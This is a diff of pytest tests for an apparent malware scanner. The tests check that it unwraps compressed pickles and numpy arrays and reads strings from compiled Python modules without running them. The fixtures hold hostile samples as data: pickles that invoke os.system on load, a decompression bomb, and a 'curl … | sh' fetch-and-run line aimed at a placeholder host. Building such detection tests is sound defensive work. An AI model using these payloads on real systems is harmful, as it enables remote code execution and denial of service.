@@ -2,11 +2,14 @@
 
 from __future__ import annotations
 
+import gzip
 import io
+import marshal
 import os
 import pickle
 import subprocess
 import zipfile
+import zlib
 from collections import OrderedDict
 
 import pytest
@@ -16,7 +19,7 @@ from capwatch.config import Limits
 from capwatch.engine import scan_bytes
 from capwatch.lang.base import FileAnalysis, ProblemKind
 from capwatch.lang.python.analyzer import PythonAnalyzer
-from capwatch.lang.serialized import analyze_pickle, callable_name
+from capwatch.lang.serialized import analyze_compiled, analyze_pickle, callable_name
 from capwatch.model import FactKind, Verdict
 
 
@@ -83,6 +86,17 @@ def test_a_module_imported_and_an_attribute_got_are_followed() -> None:
     assert calls["os.system"] == ("id",)
 
 
+def test_compressed_pickles_and_object_arrays_are_unwrapped() -> None:
+    data = pickle.dumps(_Runs(os.system, "id"), protocol=4)
+    assert "os.system" in _calls(_analyze(zlib.compress(data)))
+    assert "os.system" in _calls(_analyze(gzip.compress(data)))
+    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(118) + b"\n"
+    npy = b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + data
+    assert "os.system" in _calls(_analyze(npy))
+    bomb = zlib.compress(b"\x80\x02" + b"N0" * 200_000 + b".")
+    assert not _analyze(bomb, Limits(decoded_bytes=1000)).facts  # past the limit: not read
+
+
 def test_opcode_limit_is_a_problem_not_a_hang() -> None:
     data = pickle.dumps(list(range(5000)), protocol=0)
     result = _analyze(data, Limits(pickle_opcodes=100))
@@ -113,3 +127,19 @@ def test_checkpoint_archive_and_pickle_files_are_scanned_in_a_release() -> None:
     fired = [f for f in result.findings if f.rule == "CW126"]
     assert fired and fired[0].location.path == "netkit-1.0/netkit/net.pt!net/data.pkl"
     assert result.verdict is Verdict.MALICIOUS
+
+
+def test_a_compiled_module_is_read_for_its_strings_without_loading_it() -> None:
+    source = "import os\n\ndef run():\n    os.system('curl -s https://paste.example.invalid/raw | sh')\n"
+    code = compile(source, "tool.py", "exec")
+    header = b"\x00" * 16  # magic, flags, timestamp and size of a CPython 3.7+ .pyc
+    analysis = analyze_compiled(
+        header + marshal.dumps(code), "pkg/tool.pyc", "pkg.tool", PythonAnalyzer(Limits()),
+        is_package=False,
+    )
+    texts = {f.value for f in analysis.facts if f.kind is FactKind.LITERAL}
+    assert "curl -s https://paste.example.invalid/raw | sh" in texts
+    assert all(f.decode_chain == ("compiled",) for f in analysis.facts)
+    broken = analyze_compiled(b"not bytecode", "pkg/x.pyc", "pkg.x", PythonAnalyzer(Limits()),
+                              is_package=False)
+    assert [p.kind for p in broken.problems] == [ProblemKind.UNPARSABLE]
